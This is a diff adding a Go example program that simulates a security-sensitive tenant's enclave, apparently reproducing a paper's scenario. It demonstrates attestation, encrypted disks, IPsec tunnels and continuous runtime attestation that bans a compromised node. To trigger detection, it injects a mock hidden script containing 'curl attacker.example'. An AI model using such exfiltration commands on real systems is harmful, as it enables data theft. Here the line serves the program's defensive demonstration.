@@ -1,0 +1,107 @@
+// Secure enclave: the paper's Charlie (§4.3) — a security-sensitive
+// tenant who trusts the provider only for availability. Tenant-deployed
+// attestation, LUKS disk encryption, IPsec between nodes, continuous
+// runtime attestation, and the §7.4 kill chain: an unauthorized binary
+// executes, the verifier detects it, and the node is cryptographically
+// banned from the enclave in well under a second.
+package main
+
+import (
+	"bytes"
+	"fmt"
+	"log"
+	"time"
+
+	"bolted"
+	"bolted/internal/ima"
+	"bolted/internal/minfs"
+)
+
+func main() {
+	cloud, err := bolted.NewCloud(bolted.DefaultConfig())
+	if err != nil {
+		log.Fatal(err)
+	}
+	if _, err := cloud.BMI.CreateOSImage("hardened", bolted.OSImageSpec{
+		KernelID: "hardened-4.17.9",
+		Kernel:   []byte("vmlinuz-hardened"),
+		Initrd:   []byte("initramfs-hardened"),
+		Cmdline:  "root=iscsi ima_policy=tcb",
+	}); err != nil {
+		log.Fatal(err)
+	}
+
+	enclave, err := bolted.NewEnclave(cloud, "charlie", bolted.ProfileCharlie)
+	if err != nil {
+		log.Fatal(err)
+	}
+	// Charlie generates his own runtime whitelist: only these binaries
+	// may ever run in the enclave.
+	enclave.IMAWhitelist().AllowContent("/usr/bin/model-trainer", []byte("trainer-v2 binary"))
+	enclave.IMAWhitelist().AllowContent("/etc/trainer.conf", []byte("epochs=100"))
+
+	n1, err := enclave.AcquireNode("hardened")
+	if err != nil {
+		log.Fatal(err)
+	}
+	n2, err := enclave.AcquireNode("hardened")
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Printf("enclave up: %s, %s (attested, LUKS, IPsec)\n", n1.Name, n2.Name)
+
+	// The data volume is LUKS-encrypted with a key delivered only after
+	// attestation: the tenant runs a real filesystem on it, and the
+	// provider's storage never sees plaintext.
+	fs, err := minfs.Format(n1.Disk, 64)
+	if err != nil {
+		log.Fatal(err)
+	}
+	secret := bytes.Repeat([]byte("PATIENT-RECORDS."), 1024)
+	if err := fs.Write("records/2026-q2.db", secret); err != nil {
+		log.Fatal(err)
+	}
+	back, err := fs.Read("records/2026-q2.db")
+	if err != nil || !bytes.Equal(back, secret) {
+		log.Fatal("filesystem round-trip failed")
+	}
+	leaked := false
+	for _, obj := range cloud.Ceph.ListPrefix("img-charlie") {
+		if data, ok := cloud.Ceph.Get(obj); ok && bytes.Contains(data, []byte("PATIENT-RECORDS")) {
+			leaked = true
+		}
+	}
+	fmt.Printf("files on encrypted volume: %v; plaintext visible to provider: %v\n", fs.List(), leaked)
+
+	// Enclave traffic runs over pairwise ESP tunnels.
+	if _, err := enclave.Send(n1.Name, n2.Name, []byte("gradient shard 17")); err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println("encrypted node-to-node traffic: ok")
+
+	// Continuous attestation at a 100 ms cadence.
+	n1.IMA.Measure("/usr/bin/model-trainer", []byte("trainer-v2 binary"), ima.HookExec, 0)
+	n1.IMA.Measure("/etc/trainer.conf", []byte("epochs=100"), ima.HookRead, 0)
+	if err := enclave.StartContinuousAttestation(n1.Name, 100*time.Millisecond); err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println("continuous attestation running; injecting compromise on", n1.Name)
+
+	// An attacker drops and runs an unauthorized script on n1.
+	injected := time.Now()
+	n1.IMA.Measure("/tmp/.hidden/exfil.sh", []byte("#!/bin/sh\ncurl attacker.example"), ima.HookExec, 0)
+
+	// Within a few check intervals, the verifier revokes n1's keys and
+	// every peer drops its IPsec SAs: the node is banned.
+	for {
+		if _, err := enclave.Send(n1.Name, n2.Name, []byte("probe")); err != nil {
+			fmt.Printf("node banned from enclave %v after injection\n",
+				time.Since(injected).Round(time.Millisecond))
+			break
+		}
+		time.Sleep(5 * time.Millisecond)
+	}
+	status, _ := enclave.Verifier().Status(n1.Name)
+	fmt.Printf("verifier status for %s: %s\n", n1.Name, status)
+	fmt.Printf("last verifier error: %v\n", enclave.Verifier().LastError(n1.Name))
+}
